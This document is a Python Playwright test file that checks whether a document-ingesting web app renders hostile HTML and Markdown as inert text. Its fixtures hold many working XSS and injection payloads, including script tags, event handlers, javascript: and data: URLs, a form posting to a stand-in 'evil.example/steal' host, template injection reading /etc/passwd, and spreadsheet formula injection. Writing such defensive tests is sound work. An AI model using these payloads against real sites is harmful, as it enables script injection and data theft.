"""Documents that try to break out, in a real browser: nothing runs, nothing is asked of another host.

The browser listens while every page made of them is loaded: dialogs, requests, errors, reports of our policy.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from browsing import served
from playwright.sync_api import Browser, BrowserContext, Page
from web_samples import EVIL_ADDRESSES, keep_evil

from corpus.catalogue import CatalogueWriter
from corpus.home import Home
from index import library
from ingest import pipeline
from webapp import create_app
from webapp.knowledge import EXTENSION

pytestmark = pytest.mark.slow

RUNS = "window.ran=1;alert('ran')"
OWN = {
    "breakout.html": f"""<!doctype html><html lang="en"><head>
<title>Shelter report "><script>{RUNS}</script></title><base href="https://evil.example/">
<meta name="author" content="Ann &quot;><img src=x onerror={RUNS}>">
<meta name="description" content="<script>{RUNS}</script>">
<meta http-equiv="refresh" content="0; url=https://evil.example/refreshed">
<meta property="og:url" content="javascript:{RUNS}"><link rel="canonical" href="javascript:{RUNS}">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/import.css);</style></head>
<body onload="{RUNS}"><main>
<h1>Shelter report <svg onload="{RUNS}"><animate onbegin="{RUNS}"></svg></h1>
<h2 id="x&quot; onclick=&quot;{RUNS}">Guardians &lt;script&gt;{RUNS}&lt;/script&gt;</h2>
<p>Guardians should be appointed within ten days &lt;img src=x onerror={RUNS}&gt; of every arrival at the border,
and the shelter must tell each child so. <a href="javascript:{RUNS}">More</a> <a href="java&#9;script:{RUNS}">more</a>
<a href="data:text/html,<script>{RUNS}</script>">data</a>
<a href="vbscript:msgbox(1)">old</a></p>
<p>{{{{ ''.__class__ }}}} {{% include '/etc/passwd' %}} ${{7*7}} "&gt;&lt;svg/onload={RUNS}&gt;
'-alert(1)-' `${{alert(1)}}`</p>
<form action="https://evil.example/steal"><input name="q" autofocus onfocus="{RUNS}"><button>Send</button></form>
<img src="https://evil.example/pixel.png" onerror="{RUNS}"><iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data="data:text/html,<script>{RUNS}</script>"></object><embed src="https://evil.example/e.swf">
<math><mtext><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUNS}>"></p></noscript><template><script>{RUNS}</script></template>
<table><tr><td>=HYPERLINK("https://evil.example","x")</td>
<td onmouseover="{RUNS}">b &lt;iframe src=//evil.example&gt;</td></tr></table>
<ul><li>&lt;details open ontoggle={RUNS}&gt; Shelters need two keys.</li></ul></main></body></html>""",
    "breakout.md": f"""---
title: "Handover <script>{RUNS}</script>"
author: '"><img src=x onerror={RUNS}>'
url: "javascript:{RUNS}"
---
# Handover <svg/onload={RUNS}>

Donors should fund the shelter <img src=x onerror={RUNS}> until the municipality has taken it over for good.

[a](javascript:{RUNS}) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![c](https://evil.example/c.png)
![d](x"onerror="{RUNS}) <javascript:{RUNS}> [e]( java\tscript:{RUNS} "t" )

- One lesson is that <b onmouseover={RUNS}>training</b> alone changed little for the guardians of the children.

| a | b |
|---|---|
| <script>{RUNS}</script> | [x](vbscript:x) |

    <script>{RUNS}</script>
""",
}
"""Files of our own that try every way out of a page which is made of them."""
FAULTS = """() => {
  const found = [], say = (what, e) => found.push(what + ": " + e.outerHTML.slice(0, 160));
  if (window.ran) found.push("a script of the document ran");
  for (const e of document.querySelectorAll("*")) {
    for (const a of e.attributes) if (/^on/i.test(a.name) || a.name === "style" || a.name === "srcdoc") say(a.name, e);
    for (const name of ["href", "src", "action", "formaction", "data", "xlink:href"]) {
      const to = e.getAttribute(name);
      if (to && !["http:", "https:"].includes(new URL(to, location.href).protocol)) say(name, e);
      if (to && e.localName !== "a" && !(e.localName === "link" && e.rel !== "stylesheet"))
        if (new URL(to, location.href).origin !== location.origin) say(name + " elsewhere", e);
    }
  }
  const foreign = "iframe, object, embed, base, style, math, template, audio, video, meta[http-equiv]"
    + ", img:not(.plate img), script:not([src^='/static/']):not([type='application/ld+json'])";
  for (const e of document.querySelectorAll(foreign)) say("is here", e);
  return found;
}"""
"""What a page must not have, whatever its document holds."""


class Heard:
    """What a browser was heard to do while it loaded pages."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.address = address
        self.faults: list[str] = []
        self.page: Page = context.new_page()
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.faults.append(f"error {error}"))
        self.page.on("console", lambda said: self.faults.append(said.text) if "status of 4" not in said.text else None)
        self.page.on("popup", lambda popup: self.faults.append(f"window {popup.url}"))
        context.on("request", lambda asked: self._asked(asked.url))

    def _asked(self, url: str) -> None:
        if not url.startswith(self.address):
            self.faults.append(f"request {url}")

    def load(self, path: str, looks: bool = True) -> None:
        """Load an address; ``looks``: and look through what it holds."""
        before = len(self.faults)
        self.page.goto(self.address + path, wait_until="load")
        if looks:
            self.faults += self.page.evaluate(FAULTS)
        assert self.page.url.startswith(self.address), path
        self.faults[before:] = [f"{path}: {fault}" for fault in self.faults[before:]]


@contextmanager
def heard(browser: Browser, home: Home) -> Iterator[Heard]:
    """A browser over a home, listened to."""
    with served(home) as address:
        context = browser.new_context()
        yield Heard(context, address)
        context.close()


def read_in(home: Home, *inputs: Path) -> None:
    """Ingest files and folders as the command line does."""
    with home.writing(), CatalogueWriter(home.catalogue_url) as writer:
        run = pipeline.prepare(home, writer, list(inputs))
        list(pipeline.ingest(home, writer, run, publish=lambda: library.bring_up_to_date(home, writer)))


def addresses_of(home: Home, few: int = 2) -> list[str]:
    """The pages that are made of each document of a home: ``few`` of each sort."""
    catalogue: Any = create_app(home).extensions[EXTENSION].catalogue
    found = ["/", "/documents", "/practices", "/organisations", "/statements", "/search", "/evidence"]
    for doc in (entry.card.id for entry in catalogue.entries()):
        numbers = [number for number, _ in catalogue.page_numbers(doc) if number is not None][:few]
        passages, statements = catalogue.passages(doc)[:few], catalogue.statements(doc)[:few]
        found += [f"/documents/{doc}", f"/cite/{doc}", f"/search?doc={doc}", f"/search?doc={doc}&in=statements"]
        found += [f"/search?doc={doc}&in=documents", f"/search?like={doc}&in=documents", f"/documents/{doc}/text"]
        found += [f"/documents/{doc}/pages/{number}?picture=1" for number in numbers]
        found += [
            f"/{what}/{one.id}" for what, some in (("passages", passages), ("statements", statements)) for one in some
        ]
        found += [f"/cite/{one.id}" for one in (*passages, *statements)]
    return found


def test_a_card_that_tries_every_field(browser: Browser, fresh_home: Home) -> None:
    """A document whose every field is markup is shown as text, in the list of suggestions too."""
    with heard(browser, keep_evil(fresh_home)) as listening:
        for path in EVIL_ADDRESSES:
            listening.load(path)
            listening.page.get_by_role("combobox").first.fill("repo")
            listening.page.get_by_role("option").first.wait_for()
            listening.faults += listening.page.evaluate(FAULTS)
    assert not listening.faults


def test_files_of_our_own_that_try_every_way_out(browser: Browser, fresh_home: Home, tmp_path: Path) -> None:
    """Scripts, handlers, images, frames, forms, refreshes and addresses that run: all of it is words, or gone."""
    for name, text in OWN.items():
        (tmp_path / name).write_text(text, "utf-8")
    live = browser.new_page()
    live.on("dialog", lambda dialog: dialog.dismiss())
    live.set_content(OWN["breakout.html"].replace("http-equiv", "name").replace("<base", "<link"))
    assert live.evaluate("window.ran"), "what is to be harmless in our pages does run in a page of its own"
    live.close()
    read_in(fresh_home, *(tmp_path / name for name in OWN))
    paths = addresses_of(fresh_home)
    assert len([path for path in paths if path.startswith("/passages/")]) >= len(OWN)
    with heard(browser, fresh_home) as listening:
        for path in (
            *paths,
            "/search?q=guardians",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/search?q=alert&exact=1",
        ):
            listening.load(path)
        for path in ("/search/feed.atom?q=shelter", "/evidence/map.svg", "/api/v1/search?q=shelter"):
            listening.load(path, looks=False)
            assert not listening.page.evaluate("window.ran")
        for form in ("csv", "json", "ris", "bibtex", "xlsx"):
            taken = listening.page.request.get(f"{listening.address}/search/export.{form}?q=shelter")
            assert taken.headers["content-disposition"].startswith("attachment"), form
            assert taken.headers["x-content-type-options"] == "nosniff"
    assert not listening.faults


def test_a_collection_of_hostile_words_taken_along(browser: Browser, fresh_home: Home, tmp_path: Path) -> None:
    """As a web page opened from a disk, where no policy of a server holds, it runs nothing and asks nobody."""
    for name, text in OWN.items():
        (tmp_path / name).write_text(text, "utf-8")
    read_in(fresh_home, *(tmp_path / name for name in OWN))
    client = create_app(fresh_home).test_client()
    catalogue: Any = client.application.extensions[EXTENSION].catalogue
    items = [passage.id for entry in catalogue.entries() for passage in catalogue.passages(entry.card.id)]
    title = f'"><script>{RUNS}</script><img src=x onerror={RUNS}>'
    edit = client.post("/collections", data={"title": title, "item": items}).headers["Location"].partition("?")[0]
    read = re.findall(r"/collections/(?!edit)[\w-]{32}", client.get(edit).text)[0]
    taken = tmp_path / "taken.html"
    taken.write_bytes(client.get(f"{read}/export.html").data)
    assert "must tell each child so" in taken.read_text("utf-8")
    page, heard = browser.new_page(), []
    page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda asked: heard.append(asked.url) if asked.url != taken.as_uri() else None)
    page.goto(taken.as_uri())
    assert not page.evaluate("window.ran")
    assert not page.locator(
        "script, iframe, object, embed, base, meta[http-equiv=refresh], form, a[href^=java]"
    ).count()
    page.close()
    assert not heard


def test_every_hostile_file_of_the_library(browser: Browser, fresh_home: Home, shared: Path) -> None:
    """Each of the files collected to do harm is read or refused, and no page that is made of it does anything."""
    read_in(fresh_home, shared / "library" / "hostile")
    with heard(browser, fresh_home) as listening:
        for path in (*addresses_of(fresh_home, few=1), "/search?q=guardian", "/search/feed.atom?q=guardian"):
            listening.load(path, looks=not path.startswith("/search/feed"))
    assert not listening.faults
